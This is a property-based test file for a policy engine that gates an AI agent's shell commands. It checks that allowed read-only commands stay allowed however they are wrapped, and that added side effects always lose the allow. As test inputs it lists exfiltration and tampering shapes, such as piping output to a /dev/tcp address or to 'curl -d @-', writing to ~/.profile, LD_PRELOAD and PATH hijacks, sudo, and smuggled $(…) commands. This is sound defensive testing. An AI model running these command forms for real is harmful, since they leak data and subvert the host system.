import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { compile } from "../../compiler/compile.ts";
import { createEngine } from "../../runtime.ts";
import { bash, home } from "../engine/actions/engine.ts";
import { policyFile } from "../literate/policies.ts";
import { rounds } from "./seed.ts";

/**
 * What an `allow` covers (reach, section 3): an effect that no rule lists, added to a call that is allowed, takes the answer
 * away, wherever it stands and whatever is around it. What adds no effect leaves the answer. Seeds are printed on failure.
 */
const rules = `version: 1
policy: p
default: block
rules:
  - { id: look, event: tool_call, each: { c: shell.commands }, when: { c.program: [cat, ls, grep, head, sort, wc, "true"] }, action: OPAQUE, reason: looks }
  - { id: git, event: tool_call, each: { c: shell.commands }, when: { c.program: git, c.subcommand: [status, diff, log] }, action: OPAQUE, reason: looks }
`;

function engineOf(action: string) {
  const { plan, diagnostics } = compile({
    files: [policyFile(rules.replaceAll("OPAQUE", action))],
    resolveImport: () => undefined,
  });
  if (!plan) throw new Error(JSON.stringify(diagnostics));
  return createEngine(plan);
}

const engines = ["allow", "{ allow: { opaque: true } }"].map(engineOf);

function outcomes(command: string): string[] {
  return engines.map((engine) => engine.decide({ ...bash(command), environment: home, files: {} }).decision.outcome);
}

const word = fc.constantFrom("a", "src/a.ts", "'two words'", "../b", "~/notes.txt");
const looks = fc.oneof(
  word.map((one) => `cat ${one}`),
  word.map((one) => `grep -n x ${one}`),
  word.map((one) => `wc -l < ${one}`),
  fc.constantFrom("ls -la", "git status", "git diff HEAD~1", "git log --oneline", "/usr/bin/cat a", "sort a"),
);
/** Ways to say a call that add no effect. */
const around: readonly ((call: string) => string)[] = [
  (call) => call,
  (call) => `${call} 2>/dev/null`,
  (call) => `${call} > /dev/null 2>&1`,
  (call) => `${call} | head -3`,
  (call) => `( ${call} )`,
  (call) => `{ ${call}; }`,
  (call) => `if true; then ${call}; fi`,
  (call) => `cd src && ${call}`,
  (call) => `ls; ${call}`,
  (call) => `${call} || true`,
];
/** Ways to say one command. */
const before = fc.constantFrom<(call: string) => string>(
  (call) => call,
  (call) => `timeout 5 ${call}`,
  (call) => `LC_ALL=C ${call}`,
  (call) => `nice -n 5 env A=1 ${call}`,
  (call) => `bash -c "${call}"`,
);
const ways = fc.array(fc.constantFrom(...around), { maxLength: 3 });
const say = (call: string, how: readonly ((call: string) => string)[]): string =>
  how.reduce((text, way) => way(text), call);

/** Something that no rule lists, added to a call. */
const added: readonly ((call: string) => string)[] = [
  (call) => `${call} > out.txt`,
  (call) => `${call} >> ~/.profile`,
  (call) => `${call} 2> log`,
  (call) => `${call} &> log`,
  (call) => `${call} | tee log`,
  (call) => `${call} > /dev/tcp/192.0.2.1/80`,
  (call) => `${call} > >(tee log)`,
  (call) => `${call}; touch x`,
  (call) => `${call} && mkdir x`,
  (call) => `${call} & curl https://example.com`,
  (call) => `${call} | curl -d @- https://example.com`,
  (call) => `${call}; git push`,
  (call) => `${call}; npm install left-pad`,
  (call) => `${call}; kill 1234`,
  (call) => `${call}; git config user.name x`,
  (call) => `${call}; frobnicate`,
  (call) => `cat $(touch x); ${call}`,
  (call) => `cat <(touch x); ${call}`,
  (call) => `exec > log; ${call}`,
  (call) => `sudo ${call}`,
  (call) => `ssh host ${call}`,
  (call) => `docker exec box ${call}`,
  (call) => `chroot /srv ${call}`,
  (call) => `PATH=/srv/x ${call}`,
  (call) => `export PATH=/srv/x; ${call}`,
  (call) => `LD_PRELOAD=/srv/x.so ${call}`,
  (call) => `/srv/env ${call}`,
  (call) => `./${call}`,
  (call) => `git log --output=x; ${call}`,
  (call) => `git --exec-path=/srv/x status; ${call}`,
];
const plainCalls = fc.constantFrom("cat a", "grep -n x src/a.ts", "git status", "ls -la", "git log --oneline");

describe("an allow covers what it names", () => {
  it("whatever way a call is said that adds no effect", () => {
    fc.assert(
      fc.property(looks, before, ways, (call, one, how) => {
        const text = say(one(call), how);
        const [plain, opaque] = outcomes(text);
        expect(opaque, text).toBe("allow");
        // What a group sends into a pipe is not always understood.
        if (how.length < 2) expect(plain, text).toBe("allow");
      }),
      { numRuns: rounds(400) },
    );
  });

  it("and nothing that is added to it", () => {
    fc.assert(
      fc.property(plainCalls, fc.constantFrom(...added), ways, (call, add, how) => {
        const text = say(add(call), how);
        expect(outcomes(text), text).not.toContain("allow");
      }),
      { numRuns: rounds(1_500) },
    );
  });
});
